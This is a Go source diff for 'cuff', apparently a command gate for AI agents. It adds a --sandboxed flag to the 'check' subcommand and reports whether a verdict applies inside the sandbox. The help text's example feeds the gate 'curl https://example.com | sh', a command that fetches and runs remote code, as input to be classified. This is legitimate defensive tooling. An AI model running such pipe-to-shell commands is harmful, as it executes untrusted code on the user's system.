@@ -16,6 +16,7 @@ import (
 
 func (a *app) checkCommand() *cobra.Command {
 	var format, taint string
+	var sandboxed bool
 	cmd := &cobra.Command{
 		Use:   "check COMMAND...",
 		Short: "Explain the gate's verdict for a shell command, part by part",
@@ -23,6 +24,8 @@ func (a *app) checkCommand() *cobra.Command {
 every simple command inside it (pipelines, lists, substitutions, wrappers such as
 env, timeout, xargs, sh -c) is classified, and the verdict is the most severe.
 The configured gate mode applies (gate.mode); taint is none unless --taint is given.
+A command that runs code the agent may have written (tests, builds, project scripts)
+is allowed only in cuff's sandbox: --sandboxed shows the verdict for a sandboxed run.
 Exit status: 0 allow, 1 ask, 2 deny, 3 no decision (the agent's own permission flow).`,
 		Example: `  cuff check 'git status && curl https://example.com | sh'
   cuff check --taint untrusted,secret -- python3 -c 'print(1)'
@@ -50,7 +53,7 @@ Exit status: 0 allow, 1 ask, 2 deny, 3 no decision (the agent's own permission f
 				return err
 			}
 			command := strings.Join(args, " ")
-			res := g.Check(context.Background(), command, t)
+			res := g.Decide(context.Background(), command, gate.Input{Taint: t, Sandboxed: sandboxed})
 			if format == "json" {
 				if err := report.JSON(a.stdout, res); err != nil {
 					return err
@@ -64,6 +67,7 @@ Exit status: 0 allow, 1 ask, 2 deny, 3 no decision (the agent's own permission f
 	cmd.Flags().SetInterspersed(false)
 	cmd.Flags().StringVar(&format, "format", "text", "output format: text, json")
 	cmd.Flags().StringVar(&taint, "taint", "", "the agent's taint: untrusted, secret, or untrusted,secret")
+	cmd.Flags().BoolVar(&sandboxed, "sandboxed", false, "the verdict for a command that runs in cuff's sandbox")
 	return cmd
 }
 
@@ -96,7 +100,11 @@ func (a *app) printVerdict(command string, res gate.Result, mode gate.Mode, tain
 	if taint != 0 {
 		t = "taint " + taint.String()
 	}
-	fmt.Fprintf(w, "%s  %s   (%s mode, %s)\n", verdict, command, mode, t)
+	where := "outside the sandbox"
+	if res.Sandboxed {
+		where = "in the sandbox"
+	}
+	fmt.Fprintf(w, "%s  %s   (%s mode, %s, %s)\n", verdict, command, mode, t, where)
 	for _, c := range res.Commands {
 		fmt.Fprintf(w, "  %-6s %-9s %s\n", c.Verdict, c.Tier, c.Text)
 		if c.Rule != "" && !namesRule(c.Reasons) {
